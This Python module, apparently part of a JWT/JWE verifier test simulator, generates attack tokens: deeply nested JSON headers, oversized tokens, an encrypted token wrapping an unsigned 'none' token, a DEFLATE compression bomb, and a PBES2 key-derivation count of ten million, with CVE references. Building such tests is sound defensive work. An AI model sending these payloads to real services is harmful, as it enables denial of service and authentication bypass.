"""Attacks on the verifier's time and memory, and through tokens that are encrypted."""

from __future__ import annotations

import zlib
from typing import Any

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from simulator.attacks.algorithm import FREE, raised, unsigned
from simulator.attacks.catalogue import attacks_of
from simulator.attacks.scene import Scene, part
from simulator.jose import b64url_encode
from simulator.jose.encoding import write_json

attack = attacks_of("cost")

SEALING = "the secret that every client has, to encrypt for the backend with"


@attack(
    knows=FREE,
    reference="RFC 8259 9",
    layer="decode",
    hole="reads numbers as Python does",
    otherwise="the reader's stack ends, and with it the answer to whoever is waiting",
)
def nesting(scene: Scene) -> str:
    """A header with a hundred thousand brackets in each other; nobody signed it."""
    depth = 100_000
    deep = '{"x":' + "[" * depth + "]" * depth + ","
    header = (deep + write_json(scene.header()).decode()[1:]).encode()
    return f"{part(header)}.{part(scene.claims())}.{b64url_encode(bytes(32))}"


@attack(
    knows="a field of her profile that goes into her token, and has no limit",
    reference="RFC 6585 5",
    layer="split",
    hole="takes any size",
    otherwise="one request costs as much as ten thousand others",
)
def ten_megabytes(scene: Scene) -> str:
    """A genuine token of ten megabytes."""
    return scene.token(scene.claims(about_me=scene.random.choice("abc") * 7_500_000))


def sealed(scene: Scene, plain: bytes, **header: Any) -> str:
    """An encrypted token of five parts (RFC 7516 3.1): key agreed (dir), AES in GCM."""
    about = {"alg": "dir", "enc": "A256GCM", "kid": scene.sealing.kid, **header}
    protected, nonce = part(about), scene.random.randbytes(12)
    closed = AESGCM(scene.sealing.signing).encrypt(nonce, plain, protected.encode())
    text, tag = closed[:-16], closed[-16:]
    return ".".join((protected, "", *map(b64url_encode, (nonce, text, tag))))


@attack(
    knows=SEALING,
    where="secret",
    reference="RFC 8725 2.3, 3.3; RFC 7516 3.1",
    layer="split",
    hole="reads encrypted tokens",
    otherwise="that it was encrypted is taken for a sign of who wrote it",
)
def jwe_around_none(scene: Scene) -> str:
    """An encrypted token; inside is one that is not signed."""
    return sealed(scene, unsigned(scene, "none").encode(), cty="JWT")


@attack(
    knows=SEALING,
    where="secret",
    layer="split",
    hole="reads encrypted tokens",
    reference="RFC 8725 3.6; CVE-2024-28102, CVE-2024-33664",
    otherwise="thirty kilobytes that came in are thirty megabytes inside",
)
def zip_bomb(scene: Scene) -> str:
    """An encrypted token, compressed a thousand times."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = write_json(raised(scene)) + b" " * 32_000_000
    return sealed(scene, squeezer.compress(plain) + squeezer.flush(), zip="DEF")


@attack(
    knows=FREE,
    where="secret",
    reference="RFC 7518 4.8.1.2; CVE-2022-36083",
    layer="split",
    hole="reads encrypted tokens",
    otherwise="the token says how long the verifier has to work before it may say no",
)
def ten_million_rounds(scene: Scene) -> str:
    """An encrypted token whose key takes ten million rounds to derive (`p2c`)."""
    header = {
        "alg": "PBES2-HS256+A128KW",
        "enc": "A256GCM",
        "p2s": b64url_encode(scene.random.randbytes(16)),
        "p2c": 10_000_000,
    }
    random = [b64url_encode(scene.random.randbytes(size)) for size in (40, 12, 300, 16)]
    return ".".join((part(header), *random))
